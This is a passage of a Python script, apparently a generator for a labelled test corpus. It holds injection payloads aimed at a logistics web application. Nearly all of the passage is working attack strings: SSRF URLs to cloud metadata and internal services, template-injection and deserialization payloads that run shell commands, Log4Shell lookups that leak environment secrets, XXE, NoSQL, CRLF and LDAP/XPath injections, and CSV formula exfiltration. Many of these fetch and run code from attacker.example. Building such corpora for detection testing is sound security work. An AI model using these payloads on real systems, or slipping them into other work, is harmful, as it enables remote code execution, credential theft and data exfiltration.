    ("rate-feed-url-localhost-elasticsearch", "http://localhost:9200/_cat/indices?v"),
    ("webhook-url-gopher-redis-cron", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*%2F1%20*%20*%20*%20*%20curl%20attacker.example%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%2F%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASAVE%0D%0A"),
    ("rate-feed-url-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("logo-url-file-scheme-environ", "file:///proc/self/environ"),
    ("as2-endpoint-ipv6-loopback-consul", "http://[::1]:8500/v1/agent/self"),
    ("webhook-url-ipv4-mapped-ipv6-imds", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("webhook-url-aws-imds-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("tracking-iframe-url-userinfo-confusion", "https://tracking.carrier.example@127.0.0.1:2375/containers/json"),
    ("logo-url-docker-api", "http://127.0.0.1:2375/containers/json"),
    ("webhook-url-kubernetes-secrets", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("pod-photo-url-kubelet-pods", "https://10.0.0.1:10250/pods"),
    ("webhook-url-zero-host", "http://0/admin/"),
    ("webhook-url-short-loopback", "http://127.1:5000/admin"),
    ("webhook-url-open-redirect-imds", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("webhook-url-dns-rebinding", "http://imds.rebind.attacker.example/latest/meta-data/iam/security-credentials/"),
    ("logo-url-attacker-dns-to-loopback", "http://localhost.attacker.example:8080/admin"),
    ("webhook-url-backslash-authority-confusion", "http://carrier-api.example\\@169.254.169.254/latest/meta-data/"),
    ("webhook-url-fragment-at-confusion", "http://169.254.169.254/latest/meta-data/#@tracking.carrier.example"),
    ("logo-url-ideographic-dots+unicode-dots", "http://169。254。169。254/latest/meta-data/"),
    ("logo-url-enclosed-digits+enclosed-alnum", "http://①②⑦.⓪.⓪.①:8080/admin"),
    ("customs-doc-url-internal-hostname", "http://internal-wms.corp.local/admin/users.csv"),
    ("as2-endpoint-activemq-console", "http://10.0.0.5:8161/admin/"),
    ("pod-photo-url-router-admin", "http://192.168.1.1/cgi-bin/luci"),
    ("customs-doc-url-java-jar-scheme", "jar:http://attacker.example/x.zip!/BOL.pdf"),
    ("customs-doc-url-java-netdoc", "netdoc:///etc/passwd"),
    ("webhook-url-ipv6-mapped-long-form", "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/manager/html"),
    ("webhook-url-zero-padded-octets+zero-pad", "http://127.000.000.001:8500/v1/kv/?recurse"),
    ("webhook-url-dotted-hex+hex-ip", "http://0x7f.0x0.0x0.0x1:15000/config_dump"),
    ("rate-feed-url-prometheus-targets", "http://127.0.0.1:9090/api/v1/targets"),
    ("bol-pdf-render-iframe-imds", "Remarks: see below <iframe src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=900 height=900></iframe>"),
    ("bol-pdf-render-img-internal", "<img src=\"http://10.0.0.12:8080/admin/export?format=csv\" width=1 height=1>"),
    ("sftp-host-internal-redis", "127.0.0.1:6379"),
    ("webhook-url-docker-bridge-portainer", "http://172.17.0.1:9000/api/endpoints"),
    ("logo-url-aws-imds-token-path", "http://169.254.169.254/latest/api/token"),
    ("plain-loopback", "http://127.0.0.1/"),
    ("plain-localhost-server-status", "http://localhost/server-status"),
    ("plain-imds-root", "http://169.254.169.254/"),
    ("plain-file-hosts", "file:///etc/hosts"),
    ("plain-ipv6-loopback", "http://[::1]/"),
]


def _ip_int(dotted):
    a, b, c, d = (int(x) for x in dotted.split("."))
    return (a << 24) | (b << 16) | (c << 8) | d


def tpl_ssrf(rng):
    ip = rng.choice(["127.0.0.1", "169.254.169.254", "10.0.0.5"])
    path = {"127.0.0.1": rng.choice([":8080/admin", ":6379/", ":9200/_cat/indices", ":2375/info"]),
            "169.254.169.254": rng.choice(["/latest/meta-data/", "/latest/meta-data/iam/security-credentials/", "/latest/user-data"]),
            "10.0.0.5": rng.choice([":8161/admin/", ":5601/app/home", ":8500/v1/kv/?recurse"])}[ip]
    n = _ip_int(ip)
    form = rng.randint(0, 3)
    if form == 0:
        return ("webhook-url-decimal-ip+decimal-ip", "http://%d%s" % (n, path))
    if form == 1:
        return ("webhook-url-hex-ip+hex-ip", "http://0x%08x%s" % (n, path))
    if form == 2:
        return ("webhook-url-octal-ip+octal-ip", "http://0%o%s" % (n, path))
    octets = ip.split(".")
    return ("webhook-url-octal-octets+octal-ip", "http://" + ".".join("0%o" % int(o) for o in octets) + path)


# ---------------------------------------------------------------------------
# code — server-side template / expression injection, deserialization, XXE,
# Log4Shell-style lookups, prototype pollution, CSV formula injection
# ---------------------------------------------------------------------------
CODE = [
    ("label-template-jinja2-cycler-popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("label-template-jinja2-lipsum-popen", "SHIP TO: {{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("notification-template-jinja2-builtins-import", "Your shipment {{ self.__init__.__globals__.__builtins__.__import__('os').popen('curl attacker.example/j|sh').read() }} is on its way"),
    ("label-template-jinja2-config-leak", "Dock 3 / {{ config.items() }}"),
    ("label-template-jinja2-subclasses-popen", "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("label-template-jinja2-attr-filter+hex-escape", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("invoice-template-twig-filter-system", "Invoice 2024/0042 {{ ['cat /etc/passwd']|filter('system') }}"),
    ("invoice-template-twig-undefined-filter-callback", "{{ _self.env.registerUndefinedFilterCallback(\"exec\") }}{{ _self.env.getFilter(\"id\") }}"),
    ("cmr-template-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("cmr-template-freemarker-object-constructor", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"sh\",\"-c\",\"id>/tmp/f\"]).start()}"),
    ("email-template-velocity-runtime", "#set($rt=$class.inspect(\"java.lang.Runtime\").type.getRuntime())$rt.exec(\"curl http://attacker.example/v\")"),
    ("tracking-view-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("route-rule-spel-hash-runtime", "#{T(java.lang.Runtime).getRuntime().exec('curl http://203.0.113.9/s')}"),
    ("rate-formula-spel-string-array", "T(java.lang.Runtime).getRuntime().exec(new String[]{\"sh\",\"-c\",\"id>/tmp/r\"})"),
    ("packing-list-erb-backticks", "<%= `cat /etc/passwd` %>"),
    ("packing-list-erb-file-read", "Qty 48 <%= File.read('/etc/shadow') %>"),
    ("label-template-smarty-system", "SHIP TO {system('id')}"),
    ("pod-template-mako-import", "${__import__('os').popen('id').read()}"),
    ("pod-template-mako-block-import", "<% import os %>${os.popen('uname -a').read()}"),
    ("label-template-tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("notification-subject-jinja2-subclasses-list", "Your shipment SH771203 {{ ''.__class__.__base__.__subclasses__() }}"),
    ("label-template-pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("label-template-ejs-exec", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("invoice-template-razor-process-start", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\w.txt\")"),
    ("notification-template-django-debug", "Delivered {% debug %}"),
    ("driver-message-log4j-jndi-ldap", "Stuck at gate ${jndi:ldap://203.0.113.66:1389/Exploit}"),
    ("tracking-ref-log4j-lower-lookup+case-lookup", "SH771203 ${${lower:j}${lower:n}${lower:d}${lower:i}:rmi://attacker.example/o}"),
    ("pod-note-log4j-default-value+default-lookup", "${${::-j}${::-n}${::-d}${::-i}:dns://${hostName}.l4j.attacker.example}"),
    ("incident-note-log4j-env-exfil", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.x.attacker.example/a}"),
    ("seal-number-log4j-env-default+default-lookup", "ML-0047712${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}"),
    ("driver-message-log4j-lower-scheme", "${jndi:${lower:l}${lower:d}a${lower:p}://198.51.100.4/a}"),
    ("user-agent-log4j-sys-lookup", "DriverApp/3.2 ${jndi:ldap://attacker.example/${sys:java.version}}"),
    ("rate-formula-python-eval-os-system", "base * (1 + fsc) + __import__('os').system('curl -s http://attacker.example/r|sh')"),
    ("rate-formula-python-eval-lambda-subprocess", "(lambda: __import__('subprocess').check_output('id',shell=True))()"),
    ("rate-formula-node-eval-child-process", "1000*1.325+require('child_process').execSync('id').toString()"),
    ("rate-formula-node-eval-fs-read", "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("rate-formula-node-vm-escape", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
    ("rate-formula-php-eval-system", "1000*1.325;system('id');"),
    ("route-rule-ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("route-rule-mvel-runtime", "Runtime.getRuntime().exec(\"curl http://203.0.113.9/m\")"),
    ("session-blob-pickle-protocol0", "cos\nsystem\n(S'curl http://attacker.example/p|sh'\ntR."),
    ("edi-mapping-yaml-python-apply", "!!python/object/apply:os.system [\"curl -s http://203.0.113.9/y | sh\"]"),
    ("edi-mapping-snakeyaml-script-engine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
    ("cart-cookie-php-object-injection", "O:13:\"ShipmentCache\":1:{s:4:\"path\";s:20:\"/var/www/html/sh.php\";}"),
    ("shipment-json-node-serialize-iife", "{\"ref\":\"_$$ND_FUNC$$_function(){require('child_process').exec('curl attacker.example/n|sh')}()\"}"),
    ("shipment-json-jsonnet-type-objectdataprovider", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("shipment-json-jackson-jdbcrowset", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/o\",\"autoCommit\":true}]"),
    ("shipment-json-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.66:1099/x\",\"autoCommit\":true}"),
    ("shipment-xml-xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE shipment [<!ENTITY bol SYSTEM \"file:///etc/passwd\">]><shipment><ref>&bol;</ref></shipment>"),
    ("asn-xml-xxe-parameter-entity-oob", "<?xml version=\"1.0\"?><!DOCTYPE asn [<!ENTITY % d SYSTEM \"http://attacker.example/asn.dtd\"> %d;]><asn><sscc>003401234500000123</sscc></asn>"),
    ("manifest-xml-xinclude", "<manifest xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></manifest>"),
    ("customs-xml-xxe-imds", "<!DOCTYPE r [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]><customsDeclaration><goods>&m;</goods></customsDeclaration>"),
    ("pod-xml-entity-expansion", "<!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">]><pod>&g;</pod>"),
    ("pod-signature-svg-xxe", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hosts\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"400\" height=\"80\"><text y=\"20\">&h;</text></svg>"),
    ("iftmin-xml-xxe-php-expect", "<!DOCTYPE x [<!ENTITY e SYSTEM \"expect://id\">]><IFTMIN><FTX>&e;</FTX></IFTMIN>"),
    ("shipment-json-proto-pollution", "{\"shipment\":{\"ref\":\"SH771203\"},\"__proto__\":{\"isAdmin\":true}}"),
    ("shipment-json-constructor-prototype", "{\"constructor\":{\"prototype\":{\"role\":\"supervisor\"}}}"),
    ("filter-query-proto-ejs-outputfunctionname", "filters[__proto__][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("shipment-json-proto-node-options", "{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}"),
    ("pod-export-csv-hyperlink-exfil", "=HYPERLINK(\"https://attacker.example/claim?d=\"&A2&B2,\"Open POD\")"),
    ("rate-export-csv-dde-powershell", "=cmd|' /C powershell -nop -c iwr http://203.0.113.31/c.ps1|iex'!A1"),
    ("consignee-export-csv-plus-dde", "+1+cmd|' /C calc'!A0"),
    ("sku-export-csv-at-sum-dde", "@SUM(1+9)*cmd|' /C notepad'!A0"),
    ("weight-export-csv-minus-dde", "-2+3+cmd|' /C explorer http://attacker.example'!A0"),
    ("manifest-sheet-importxml-exfil", "=IMPORTXML(CONCAT(\"https://attacker.example/x?v=\",A1:A40),\"//a\")"),
    ("claims-export-csv-webservice", "=WEBSERVICE(\"https://attacker.example/s?\"&ENCODEURL(C2))"),
    ("plain-jinja2-arith-probe", "{{7*191}}"),
    ("plain-log4j-jndi", "${jndi:ldap://attacker.example/a}"),
    ("plain-spel-runtime", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("plain-xxe-file", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"),
    ("plain-proto-pollution", "{\"__proto__\":{\"polluted\":\"yes\"}}"),
    ("plain-csv-dde-calc", "=cmd|'/C calc'!A0"),
    ("plain-freemarker-execute", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
]

L4J_PARTS = {"j": ["${lower:j}", "${::-j}", "${upper:j}", "j"], "n": ["${lower:n}", "${::-n}", "n"],
             "d": ["${lower:d}", "${::-d}", "d"], "i": ["${lower:i}", "${::-i}", "i"]}


def tpl_code(rng):
    kind = rng.randint(0, 2)
    if kind == 0:
        word = "".join(rng.choice(L4J_PARTS[ch]) for ch in "jndi")
        scheme = rng.choice(["ldap", "rmi", "dns", "ldaps"])
        host = rng.choice(["attacker.example", "203.0.113.66:1389", "l4j.attacker.example"])
        ref = rng.choice(["SH771203 ", "Leave at dock 3 ", "", "Seal ok "])
        return ("driver-message-log4j-obfuscated+nested-lookup", "%s${%s:%s://%s/%s}" % (ref, word, scheme, host, rng.choice(["a", "o", "x", "e"])))
    if kind == 1:
        cmd = rng.choice(["id", "cat /etc/passwd", "curl attacker.example/t|sh", "uname -a"])
        return ("label-template-jinja2-globals-popen",
                "{{ %s.__init__.__globals__%s.popen('%s').read() }}" % (
                    rng.choice(["cycler", "joiner", "namespace"]), rng.choice([".os", "['os']"]), cmd))
    body = rng.choice(["\"https://attacker.example/c?\"&A%d" % rng.randint(2, 40), "\"http://203.0.113.31/?d=\"&B%d" % rng.randint(2, 40)])
    return ("claims-export-csv-hyperlink", "=HYPERLINK(%s,\"%s\")" % (body, rng.choice(["POD", "View claim", "Invoice"])))


# ---------------------------------------------------------------------------
# nosqli — shipment filters sent to MongoDB (JSON body or bracket query
# string), $where strings built by concatenation, CouchDB / Elasticsearch
# ---------------------------------------------------------------------------
NOSQLI = [
    ("tracking-json-ne-null", "{\"trackingNo\": {\"$ne\": null}}"),
    ("portal-login-json-regex-gt", "{\"consignee.email\": {\"$regex\": \"^ops@\"}, \"password\": {\"$gt\": \"\"}}"),
    ("driver-login-json-ne-password", "{\"username\": \"dispatcher\", \"password\": {\"$ne\": \"x\"}}"),
    ("shipment-filter-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("shipment-filter-where-key-probe", "{\"ref\": \"SH771203\", \"$where\": \"this.customer_id != null && this.api_key.match(/^a/)\"}"),
    ("shipper-filter-nin", "{\"shipper_id\": {\"$nin\": [0]}}"),
    ("tracking-query-bracket-ne", "trackingNo[$ne]=1"),
    ("where-concat-return-true", "SH771203'; return true; var x='"),
    ("where-concat-or-true", "' || '1'=='1"),
    ("where-concat-sleep", "SH771203'; sleep(6000); var z='"),
    ("driver-login-json-expr-strlen", "{\"login\": \"k.nowak\", \"$expr\": {\"$gt\": [{\"$strLenCP\": \"$password\"}, 0]}}"),
    ("shipment-filter-expr-function-sleep", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(5000);return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("report-pipeline-lookup-users", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}, {\"$project\": {\"u.password\": 1, \"u.email\": 1}}]"),
    ("eta-filter-tenant-or-bypass", "{\"eta\": {\"$gte\": \"2024-06-01\"}, \"$or\": [{\"tenant\": {\"$ne\": \"acme\"}}]}"),
    ("consignee-filter-regex-any", "{\"consignee\": {\"$regex\": \".*\", \"$options\": \"si\"}}"),
    ("tracking-json-regex-tenant-gt", "{\"trackingNo\": {\"$regex\": \"^SH7\", \"$options\": \"i\"}, \"tenant_id\": {\"$gt\": 0}}"),
    ("couchdb-mango-selector-gt-null", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"_id\", \"api_token\"]}"),
    ("tracking-search-es-query-string-or", "SH771203 OR tenant_id:* OR _exists_:api_key"),
    ("driver-pin-json-in-gte", "{\"login\": {\"$in\": [\"admin\", \"supervisor\", \"root\"]}, \"pin\": {\"$gte\": 0}}"),
    ("ref-filter-or-exists", "{\"$or\": [{\"ref\": \"SH771203\"}, {\"ref\": {\"$exists\": true}}]}"),
    ("portal-login-bracket-regex", "password[$regex]=^a"),
    ("driver-login-bracket-gt-empty", "login=dispatcher&pin[$gt]="),
    ("plain-ne-empty", "{\"$ne\": \"\"}"),
    ("plain-where-true", "{\"$where\": \"1 == 1\"}"),
    ("plain-gt-empty", "{\"$gt\": \"\"}"),
    ("plain-regex-prefix", "{\"$regex\": \"^a\"}"),
]

NOSQL_FIELDS = ["trackingNo", "sscc", "bol", "consignee.name", "driver.pin"]
NOSQL_OPS = [("$ne", "\"\""), ("$gt", "\"\""), ("$regex", "\".*\""), ("$exists", "true"), ("$nin", "[\"\"]")]


def tpl_nosqli(rng):
    field = rng.choice(NOSQL_FIELDS)
    op, arg = rng.choice(NOSQL_OPS)
    return ("shipment-filter-operator-%s" % op[1:], "{\"%s\": {\"%s\": %s}, \"status\": \"%s\"}" % (
        field, op, arg, rng.choice(["delivered", "in_transit", "exception", "on_hold"])))


# ---------------------------------------------------------------------------
# crlf — value written into a log line, an HTTP response / request header,
# or a mail header (notification e-mails)
# ---------------------------------------------------------------------------
CRLF = [
    ("driver-message-log-forging-crlf", "Leave at dock 3\r\n2024-06-11 09:32:01 INFO user=supervisor action=approve_credit shipment=SH771203 result=ok"),
    ("tracking-ref-log-forging-lf", "SH771203\n[2024-06-11T09:40:12Z] WARN auth: login succeeded for admin from 10.0.0.4"),
    ("tracking-redirect-set-cookie+urlenc", "/track/SH771203%0d%0aSet-Cookie:%20session=attacker-fixed-0001;%20Path=/"),
    ("tracking-redirect-response-splitting+urlenc", "SH771203%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("bol-download-filename-header-injection", "BOL_7781.pdf\r\nContent-Type: text/html\r\n\r\n<html><script>location='//attacker.example'</script></html>"),
    ("notification-subject-bcc-injection", "Shipment SH771203 delivered\r\nBcc: everyone@attacker.example"),
    ("notification-replyto-bcc+urlenc", "ops@northbay.example%0ABcc:%20dump@attacker.example"),
    ("notification-body-mime-injection", "Delivered OK\r\nContent-Type: multipart/alternative; boundary=zz\r\n\r\n--zz\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/reset>Reset your portal password</a>\r\n--zz--"),
    ("notification-body-smtp-smuggling", "POD copy attached\r\n.\r\nMAIL FROM:<ceo@northbay.example>\r\nRCPT TO:<finance@northbay.example>\r\nDATA\r\nSubject: urgent wire\r\n\r\nPlease pay invoice 4471 to IBAN XX00 0000 0000 0000 today.\r\n.\r\n"),
    ("tracking-header-cors-injection", "SH771203\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("pod-redirect-location-lf", "/pod/4471\nLocation: https://attacker.example/"),
    ("tracking-header-forwarded-host+urlenc", "SH771203%0aX-Forwarded-Host:%20attacker.example"),
    ("tracking-redirect-cookie+double-urlenc", "SH771203%250d%250aSet-Cookie:%20wms_sid=fixated"),
    ("driver-message-log-nel+unicode-nel", "Seal checked\u0085[INFO] QA release approved by supervisor for lot 2291"),
    ("incident-note-log-line-separator+unicode-ls", "Pallet ok\u2028[ALERT] stock adjustment +400 approved"),
    ("tracking-ref-json-log-field-break", "SH771203\",\"level\":\"info\",\"user\":\"admin\",\"msg\":\"manual override approved"),
    ("driver-message-syslog-forging", "delay 2h\n<13>Jun 11 09:32:01 wms01 sudo: ops : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/true"),
    ("seal-check-log-ansi-escape", "Seal ok\u001b[1A\u001b[2K[INFO] all seal checks passed\u001b[0m"),
    ("carrier-api-request-header-injection", "SH771203\r\nAuthorization: Bearer 0000-fake-token-0000"),
    ("carrier-api-request-splitting", "SH771203 HTTP/1.1\r\nHost: carrier-internal\r\n\r\nGET /admin/purge?all=1 HTTP/1.1\r\nX-Pad: "),
    ("driver-email-to-bcc-lf", "driver.k.nowak@fleet.example\nBcc: phish@attacker.example"),
    ("notification-subject-bcc+urlenc", "Delivery%20note%0d%0aBcc:%20a@attacker.example"),
    ("bol-download-filename-disposition-override", "BOL_7781.pdf\"\r\nContent-Disposition: inline; filename=\"bol.html"),
    ("pod-redirect-refresh-header", "/pod/4471\r\nRefresh: 0; url=https://attacker.example/login"),
    ("csv-log-row-injection", "Damaged carton\n2024-06-11;SH771299;delivered;signed:CEO;value:0"),
    ("tracking-header-cache-poison", "SH771203\r\nCache-Control: public, max-age=31536000\r\nX-Tracking: x"),
    ("plain-crlf-set-cookie", "%0d%0aSet-Cookie:%20admin=1"),
    ("plain-crlf-raw-header", "\r\nX-Injected: 1"),
    ("plain-lf-location+urlenc", "%0aLocation:%20https://attacker.example/"),
]


def tpl_crlf(rng):
    ref = rng.choice(["SH771203", "/track/NB7781220412", "BOL_7781.pdf", "/pod/4471"])
    hdr = rng.choice(["Set-Cookie: sid=fixed%d" % rng.randint(100, 999), "Location: https://attacker.example/",
                      "X-Forwarded-For: 127.0.0.1", "Content-Security-Policy: default-src *"])
    if rng.randint(0, 1):
        nl = rng.choice(["%0D%0A", "%0d%0A", "%0D%0a"])
        return ("redirect-param-header-injection+urlenc-case-mix", ref + nl + hdr.replace(" ", "%20"))
    return ("redirect-param-header-injection+double-urlenc", ref + "%250D%250A" + hdr.replace(" ", "%2520"))


# ---------------------------------------------------------------------------
# ldap-xpath — driver directory / carrier account LDAP filters; XPath over
# shipment and user XML
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("driver-directory-ldap-close-reopen", "*)(uid=*))(|(uid=*"),
    ("driver-directory-ldap-or-objectclass", "k.nowak)(|(objectClass=*)"),
    ("carrier-login-ldap-absolute-true", "supervisor)(&)"),
    ("driver-directory-ldap-blind-password", "k.nowak)(userPassword=a*"),
    ("driver-directory-ldap-memberof-enum", "*)(memberOf=cn=dispatch-admins,ou=groups,dc=northbay,dc=example"),
    ("depot-filter-ldap-description-wildcard", "Duisburg*)(|(description=*pass*)"),
    ("carrier-login-ldap-admin-comment-null", "admin)(!(cn=x))%00"),
    ("driver-directory-ldap-mail-exfil-probe", "*)(mail=*@northbay.example)(telephoneNumber=+44*"),
    ("shipment-xpath-tautology", "SH771203' or '1'='1"),
    ("shipment-xpath-count-users", "x' or count(//user)>0 or 'a'='b"),
    ("shipment-xpath-blind-substring", "x' or substring(//user[1]/password,1,1)='s' or 'a'='b"),
    ("shipment-xpath-union-nodes", "'] | //user/* | //shipment['"),
    ("shipment-xpath-root-name-probe", "x' or name(/*[1])='wms' or 'a'='b"),
    ("carrier-xpath-apikey-length", "SH771203' and string-length(//carrier[1]/apiKey)>20 and '1'='1"),
    ("driver-login-xpath-tautology", "dispatcher' or '1'='1' or 'a'='a"),
    ("pallet-xpath-numeric-tautology", "0 or 1=1"),
    ("shipment-xpath2-doc-oob", "x' or doc('http://attacker.example/x.xml')/a or 'a'='b"),
    ("driver-xpath-pin-contains", "' or contains(//driver[pin='0000']/name,'') or '"),
    ("plain-ldap-wildcard-or", "*)(|(cn=*"),
    ("plain-xpath-or", "' or 1=1 or ''='"),
    ("plain-ldap-admin-or", "admin*)(|(userPassword=*)"),
    ("plain-ldap-star", "*"),
]


def tpl_ldap_xpath(rng):
    ch = rng.choice("abcdefghijklmnopqrstuvwxyz0123456789")
    if rng.randint(0, 1):
        return ("driver-directory-ldap-blind-attribute",
                "%s)(%s=%s*" % (rng.choice(["k.nowak", "p.sharma", "t.walsh"]), rng.choice(["userPassword", "pin", "description"]), ch))
    return ("shipment-xpath-blind-char",
            "x' or substring(//%s[%d]/%s,%d,1)='%s' or 'a'='b" % (
                rng.choice(["user", "driver", "carrier"]), rng.randint(1, 3),
                rng.choice(["password", "pin", "apiKey"]), rng.randint(1, 12), ch))


# ---------------------------------------------------------------------------
# Computed encodings of a few literals (counted as templated, not literal)
# ---------------------------------------------------------------------------

def encoded_variants():
    q = urllib.parse.quote
    out = []
    # sqli
    out.append(("sqli", "tracking-search-union+urlenc", q("SH771203' UNION SELECT login,pwd FROM drivers-- -", safe="")))
    out.append(("sqli", "bol-ref-tautology+double-urlenc", q(q("BOL 7781-22' OR 'x'='x'-- ", safe=""), safe="")))
    out.append(("sqli", "awb-lookup-sleep+urlenc", q("176-12345675' AND SLEEP(8)#", safe="")))
    # xss
    out.append(("xss", "delivery-note-img-onerror+urlenc", q("Leave at dock 3<img src=x onerror=alert(document.cookie)>", safe="")))
    out.append(("xss", "pod-signer-svg+double-urlenc", q(q("Tom W.<svg onload=alert(1)>", safe=""), safe="")))
    ent = "".join("&#x%x;" % ord(c) for c in "<img src=x onerror=alert(1)>")
    out.append(("xss", "rich-text-note-img+html-entities", ent))
    out.append(("xss", "rich-text-note-script+decimal-entities", "".join("&#%d;" % ord(c) for c in "<script>alert(1)</script>")))
    js = "".join("\\u%04x" % ord(c) for c in "alert(document.domain)")
    out.append(("xss", "tracking-ref-js-eval-string+unicode-escape", "SH771203';eval('%s');//" % js))
    # cmdi
    out.append(("cmdi", "windows-customs-file-powershell-enc+base64-utf16",
                "MRN24GB0012 & powershell -nop -enc " + base64.b64encode("iwr http://203.0.113.31/a.ps1|iex".encode("utf-16le")).decode()))
    out.append(("cmdi", "label-print-base64-pipe-sh+base64",
                "SH771203;echo " + base64.b64encode(b"curl http://attacker.example/x|sh").decode() + "|base64 -d|sh"))
    out.append(("cmdi", "label-print-newline+urlenc", "SH771203%0aid%0a"))
    out.append(("cmdi", "carrier-host-semicolon+urlenc", q("carrier-gw.example;cat /etc/passwd", safe="")))
    # traversal (template covers urlenc/double)
    # ssrf
    out.append(("ssrf", "webhook-url-imds+urlenc-host", "http://%31%36%39.%32%35%34.%31%36%39.%32%35%34/latest/meta-data/"))
    # code
    out.append(("code", "session-blob-pickle+base64", base64.b64encode(b"cos\nsystem\n(S'id'\ntR.").decode()))
    out.append(("code", "label-template-jinja2-popen+urlenc", q("{{ cycler.__init__.__globals__.os.popen('id').read() }}", safe="")))
    out.append(("code", "driver-message-log4j+urlenc", q("${jndi:ldap://attacker.example:1389/e}", safe="")))
    # nosqli
    out.append(("nosqli", "tracking-query-bracket-ne+urlenc", "trackingNo%5B%24ne%5D=1"))
    # ldap-xpath
    out.append(("ldap-xpath", "shipment-xpath-tautology+urlenc", q("SH771209' or '1'='1", safe="")))
    return out


LITERAL_SETS = [
    ("sqli", SQLI, tpl_sqli, 6),
    ("xss", XSS, tpl_xss, 5),
    ("cmdi", CMDI, tpl_cmdi, 5),
    ("traversal", TRAVERSAL, tpl_traversal, 6),
    ("ssrf", SSRF, tpl_ssrf, 5),
    ("code", CODE, tpl_code, 3),
    ("nosqli", NOSQLI, tpl_nosqli, 2),
    ("crlf", CRLF, tpl_crlf, 4),
    ("ldap-xpath", LDAP_XPATH, tpl_ldap_xpath, 2),
]


def build():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    stats = {}
    order = [name for name, _, _, _ in LITERAL_SETS]
    encoded = encoded_variants()
    for name, literals, template, n_tpl in LITERAL_SETS:
        lit = 0
        tpl = 0
        for cls, v in literals:
            if v in seen:
                raise SystemExit("duplicate literal in %s: %r" % (name, v))
            seen.add(v)
            rows.append((name, cls, v))
            lit += 1
